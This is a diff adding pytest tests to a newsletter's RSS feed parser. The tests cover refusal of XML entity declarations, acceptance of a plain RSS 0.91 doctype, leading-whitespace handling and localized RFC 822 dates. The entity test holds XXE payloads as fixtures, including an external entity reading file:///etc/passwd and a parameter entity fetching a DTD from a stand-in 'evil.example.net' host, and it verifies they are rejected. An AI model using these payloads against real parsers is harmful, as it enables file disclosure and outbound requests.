@@ -132,3 +132,68 @@ def test_full_bodies_arrive_whichever_path_parses_them(
     assert entry.title == "Gen\u00e8ve" and entry.guid == "g-1"
     assert entry.image is not None and entry.image.alt == "Lake"
     assert entry.image.src == "https://news.example.org/img/g.jpg"
+
+
+def parse_bytes(body: bytes, content_type: str | None = "application/rss+xml") -> ParsedFeed:
+    from newsletter.gather.fetch import FetchedFeed
+
+    return parse_feed(FetchedFeed("feed.rss", "https://news.example.org/feed.rss", body, content_type))
+
+
+ITEM = rss_item("Diplomacy Watch: safe", "https://news.example.org/safe")
+
+
+@pytest.mark.parametrize(
+    "prolog",
+    [
+        b'<?xml version="1.0"?><!-- <a href="x"> -->',
+        b'<?xml version="1.0"?><?xml-stylesheet href="<a"?>',
+        b"\xef\xbb\xbf\n<?xml version=\"1.0\"?>\n<!-- <!DOCTYPE x> -->",
+    ],
+    ids=["comment with <a", "processing instruction with <a", "BOM and newline"],
+)
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        b'<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
+        b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example.net/x.dtd">%p;]>',
+        b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+    ],
+    ids=["internal", "parameter", "external"],
+)
+def test_entity_declarations_are_refused_whatever_comes_before_them(prolog: bytes, doctype: bytes) -> None:
+    body = prolog + doctype + rss(ITEM, declare=False).encode()
+    with pytest.raises(FeedError, match=r"^feed\.rss: refused: the feed declares XML entities"):
+        parse_bytes(body)
+
+
+def test_a_plain_doctype_such_as_rss_091s_is_accepted_and_not_fetched() -> None:
+    doctype = (b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
+               b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">')
+    parsed = parse_bytes(b'<?xml version="1.0"?>' + doctype + rss(ITEM, declare=False).encode())
+    assert [e.title for e in extract_entries(parsed)] == ["Diplomacy Watch: safe"]
+
+
+@pytest.mark.parametrize(("lead", "skipped"), [(b"\n", 1), (b"\r\n  \t", 5), (b"\xef\xbb\xbf\n\n", 2)])
+def test_whitespace_before_the_declaration_is_forgiven_and_noted(lead: bytes, skipped: int) -> None:
+    parsed = parse_bytes(lead + rss(ITEM).encode())
+    assert len(parsed.entries) == 1
+    assert parsed.forgiven[0] == f"feed.rss: {skipped} byte{'s' if skipped > 1 else ''} of whitespace before the XML declaration ignored"
+
+
+@pytest.mark.parametrize(
+    ("written", "utc"),
+    [
+        ("Seg, 24 Set 2018 10:00:00 -0300", "2018-09-24 13:00"),  # Portuguese
+        ("sáb, 13 dic 2025 18:30:00 +0000", "2025-12-13 18:30"),  # Spanish
+        ("lun., 3 févr. 2020 08:00:00 +0100", "2020-02-03 07:00"),  # French
+        ("mer., 12 juil. 2023 09:00:00 GMT", "2023-07-12 09:00"),
+        ("Di, 05 Mär 2019 12:00:00 +0100", "2019-03-05 11:00"),  # German
+        ("gio, 10 ott 2024 07:00:00 +0200", "2024-10-10 05:00"),  # Italian
+        ("wo, 02 okt 2024 10:00:00 +0200", "2024-10-02 08:00"),  # Dutch
+        ("Fri, 25 Oct 2024 12:00:00 +0000", "2024-10-25 12:00"),  # English, unchanged
+    ],
+)
+def test_localized_rfc822_dates_are_read(written: str, utc: str) -> None:
+    [entry] = extract_entries(parse_bytes(rss(rss_item("T", "https://news.example.org/t", written)).encode()))
+    assert entry.published is not None and f"{entry.published:%Y-%m-%d %H:%M}" == utc
